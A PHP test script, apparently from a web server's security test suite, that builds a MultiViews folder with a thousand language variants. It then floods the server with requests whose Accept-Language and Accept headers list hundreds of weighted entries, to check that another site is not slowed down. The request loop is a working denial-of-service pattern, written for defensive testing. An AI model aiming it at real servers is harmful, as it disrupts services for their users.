<?php
/*
 * Lets the front choose among many languages.
 *
 * Attacker: a folder with MultiViews and a thousand variants of a page, in as many languages, and
 *   clients whose Accept-Language and Accept have thousands of members, each with a quality.
 * Must not happen: site B waits while the front compares variants with preferences.
 * Checked: site B's answers, and their time.
 */
const LETTERS = 'abcdefghijklmnopqrstuvwxyz';

require __DIR__ . '/attack.php';

/** A language that nobody speaks. */
function language(int $number): string
{
    $letter = fn (int $place) => LETTERS[intdiv($number, 26 ** $place) % 26];
    return 'x' . $letter(2) . $letter(1) . $letter(0);
}

function prepare(): void
{
    @mkdir(__DIR__ . '/views');
    $rules = "Options +MultiViews\nLanguagePriority " . implode(' ', array_map(language(...),
        range(0, 200))) . "\nForceLanguagePriority Prefer Fallback\n";
    foreach (range(0, 999) as $number) {
        $language = language($number);
        $rules .= "AddLanguage $language .$language\n";
        touch(__DIR__ . "/views/page.$language.html");
    }
    file_put_contents(__DIR__ . '/views/.htaccess', $rules);
}

$scene = scene();
$members = fn (string $form, int $count) => implode(',', array_map(
    fn ($number) => sprintf($form, language($number), $number % 1000), range(0, $count)));
$languages = $members('%s;q=0.%03d', 900);
$types = $members('text/%s;q=0.%03d', 400);
for ($until = microtime(true) + 0.8, $turn = 0; microtime(true) < $until; $turn++) {
    $client = @stream_socket_client("tcp://$scene->address:$scene->port", $number, $text, 0.5);
    if ($client) {
        stream_set_timeout($client, 1);
        fwrite($client, "GET /views/page?$turn HTTP/1.1\r\nHost: a.example\r\nAccept-Language: "
            . "$languages\r\nAccept: $types, text/html;q=0.1\r\nConnection: close\r\n\r\n");
        stream_get_contents($client, 100_000);
        tried('asked');
    }
}
